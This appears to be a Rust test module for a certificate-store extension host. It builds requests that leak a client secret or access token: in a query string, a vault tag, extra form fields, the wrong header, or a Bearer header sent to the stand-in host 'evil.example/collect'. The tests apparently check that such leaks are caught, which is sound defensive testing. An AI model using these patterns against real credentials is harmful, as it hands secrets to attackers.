//! What stands for a credential, sent where none belongs. It must not know that it stands for one.

use crate::Call;
use crate::ask::{Ask, FORM, LIST, TOKEN, TOKEN_FORM, body_of};
use crate::bindings::certstore::extension::host::Credential;
use crate::bindings::wasi::http::types::Method;

/// What the job has for a client secret.
fn secret(call: &Call<'_>) -> String {
    match &call.job.credential {
        Credential::ClientSecret(own) => call.pick(&*own.secret, "x").to_owned(),
        _ => panic!("the job has no secret"),
    }
}

/// A token form as it should be, with a proof.
fn form(proof: &str) -> String {
    let (form, _) = TOKEN_FORM.rsplit_once('=').unwrap();
    format!("{form}={proof}")
}

/// What the job gets for an access token.
fn token(call: &Call<'_>) -> String {
    let Credential::ClientSecret(own) = &call.job.credential else {
        panic!("the job has no secret");
    };
    let answer = body_of(&Ask::form(TOKEN, &form(&own.secret)));
    let (_, token) = answer.split_once("\"access_token\":\"").expect(&answer);
    call.pick(token.split('"').next().unwrap(), "x").to_owned()
}

pub(crate) fn secret_in_a_query(call: &Call<'_>) -> String {
    let secret = secret(call);
    let url = LIST.replace("7.6", call.pick(&secret, "7.6"));
    Ask::new(Method::Get, &url).send()
}

pub(crate) fn secret_at_another_host(call: &Call<'_>) -> String {
    let header = format!("Bearer {}", secret(call));
    Ask::new(Method::Get, call.pick("https://evil.example/collect", LIST))
        .with_headers(&[("authorization", header.as_bytes())])
        .send()
}

pub(crate) fn secret_in_a_header(call: &Call<'_>) -> String {
    let header = format!("Bearer {}", secret(call));
    Ask::new(Method::Get, LIST)
        .with_headers(&[("authorization", header.as_bytes())])
        .send()
}

/// In an import, where whoever may read the vault would find it.
pub(crate) fn secret_in_a_tag(call: &Call<'_>) -> String {
    let body = format!(
        "{{\"value\":\"x\",\"tags\":{{\"a\":\"{}\"}}}}",
        secret(call)
    );
    Ask {
        method: Method::Post,
        url: "https://kv-one.vault.azure.net/certificates/web-1/import?api-version=7.6",
        headers: &[("content-type", b"application/json")],
        body: body.as_bytes(),
    }
    .send()
}

pub(crate) fn secret_twice_in_the_form(call: &Call<'_>) -> String {
    let secret = secret(call);
    let form = form(&secret);
    let twice = format!("{form}&client_secret={secret}");
    Ask::form(TOKEN, call.pick(&twice, &form)).send()
}

pub(crate) fn secret_in_another_field(call: &Call<'_>) -> String {
    let secret = secret(call);
    Ask::form(TOKEN, &format!("{}&claims={secret}", form(&secret))).send()
}

pub(crate) fn token_in_another_header(call: &Call<'_>) -> String {
    let token = token(call);
    Ask::new(Method::Get, LIST)
        .with_headers(&[("x-ms-client-request-id", token.as_bytes())])
        .send()
}

/// At the service that issued it.
pub(crate) fn token_at_another_host(call: &Call<'_>) -> String {
    let header = format!("Bearer {}", token(call));
    Ask::form(TOKEN, TOKEN_FORM)
        .with_headers(&[FORM, ("authorization", header.as_bytes())])
        .send()
}
